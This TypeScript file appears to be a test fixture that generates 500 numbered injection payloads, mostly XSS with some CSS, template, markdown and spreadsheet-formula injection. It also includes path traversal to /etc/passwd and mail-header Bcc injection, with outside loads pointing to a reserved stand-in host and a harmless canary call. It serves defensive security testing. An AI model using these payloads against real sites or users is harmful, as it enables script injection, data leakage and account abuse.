/**
 * 500 texts that try to be more than text: ways out of the place where a text stands, times what somebody would write there.
 * Each that did something would call `hit` with its number, or ask EVIL for it.
 */

/** No machine has this name (RFC 2606). */
export const EVIL = 'evil.invalid';
export const COUNT = 500;

/** What ends the place where a text may stand: an attribute, an element, a comment, a script, a sheet, a string. */
const exits = ` "> '> </title> </style> </script> --> </textarea> </svg> \`} \\" &lt;/td&gt;`.split(' ');

/** What is written there; `n` is the number of the payload. */
const cores: readonly ((n: number) => string)[] = [
  // HTML
  (n) => `<script>hit(${n})</script>`,
  (n) => `<img src=x onerror=hit(${n})>`,
  (n) => `<img src="http://${EVIL}/${n}.png">`,
  (n) => `<svg onload=hit(${n})><animate onbegin=hit(${n}) attributeName=x dur=1s>`,
  (n) => `<svg><script href="data:text/javascript,hit(${n})"/></svg>`,
  (n) => `<svg><use href="http://${EVIL}/${n}.svg#a"/><image href="http://${EVIL}/${n}.png"/></svg>`,
  (n) =>
    `<iframe src="javascript:parent.hit(${n})"></iframe><iframe srcdoc="<script>parent.hit(${n})</script>"></iframe>`,
  (n) => `<object data="http://${EVIL}/${n}"></object><embed src="http://${EVIL}/${n}">`,
  (n) => `<link rel=stylesheet href="http://${EVIL}/${n}.css"><base href="http://${EVIL}/">`,
  (n) => `<meta http-equiv=refresh content="0;url=http://${EVIL}/${n}">`,
  (n) =>
    `<form action="http://${EVIL}/${n}"><input autofocus onfocus=hit(${n})><button formaction="javascript:hit(${n})">`,
  (n) => `<details open ontoggle=hit(${n})><summary>x</summary></details>`,
  (n) => `<video autoplay onerror=hit(${n})><source src="http://${EVIL}/${n}" onerror=hit(${n})></video>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(${n})&gt;">`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=hit(${n})>">`,
  (n) => `<a href="javascript:hit(${n})" id=location name=body>x</a>`,
  (n) => ` onmouseover=hit(${n}) autofocus onfocus=hit(${n}) style="background:url(http://${EVIL}/${n})" x="`,
  // CSS
  (n) => `@import url(http://${EVIL}/${n}.css);*{background:url(http://${EVIL}/${n})}`,
  (n) => `}body{display:none;background:image-set("http://${EVIL}/${n}" 1x)}@font-face{src:url(//${EVIL}/${n})}`,
  (n) => `"; content: url(http://${EVIL}/${n}); x: expression(hit(${n})); "`,
  // Templates
  (n) => `{{{constructor.constructor "hit(${n})"}}}{{#with this as |x|}}{{lookup x "__proto__"}}{{/with}}`,
  (n) => `\${hit(${n})}<%= hit(${n}) %>{% hit(${n}) %}#{hit(${n})}{hit(${n})}`,
  // Markdown
  (n) => `[x](javascript:hit(${n})) ![x](http://${EVIL}/${n}.png) <http://${EVIL}/${n}>`,
  (n) => `[x]: javascript:hit(${n}) "x" [x][x] <script>hit(${n})</script> | a | b |`,
  (n) => `![x](x"onerror="hit(${n})) [x](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)`,
  // Addresses
  (n) => `javascript:hit(${n})//`,
  (n) => `java\u0000script:hit(${n})`.replace('\u0000', '&#x09;'),
  (n) => `data:text/html,<script>hit(${n})</script>`,
  (n) => `//${EVIL}/${n}`,
  (n) => `\\\\${EVIL}\\share\\${n}`,
  (n) => `http://${EVIL}/${n}?a=1&b=<x>`,
  // Formulas
  (n) => `=HYPERLINK("http://${EVIL}/${n}","x")`,
  (n) => `=cmd|' /C calc'!A${n}`,
  (n) => `+WEBSERVICE("http://${EVIL}/${n}")`,
  (n) => `-1+${n}`,
  (n) => `@SUM(A${n})`,
  (n) => `＝IMPORTXML("http://${EVIL}/${n}","//a")`,
  (n) => `_x003D_1+${n}`,
  // Names of files, and what a mail or a header would be cut by
  (n) => `../../../../etc/passwd%00${n}.png`,
  (n) => `x"; filename="${n}.html`,
  (n) => `${n}\u202Egnp.exe`,
  (n) => `x%0d%0aBcc: a@${EVIL}%0d%0a%0d%0a<script>hit(${n})</script>`,
  (n) => `=?utf-8?q?=0D=0ABcc:_a@${EVIL}?= ${n}`,
];

/** The payloads, always the same; each has its number in it. */
export const payloads: readonly string[] = exits
  .flatMap((exit) => cores.map((core) => (n: number) => exit + core(n)))
  .slice(0, COUNT)
  .map((make, n) => make(n));
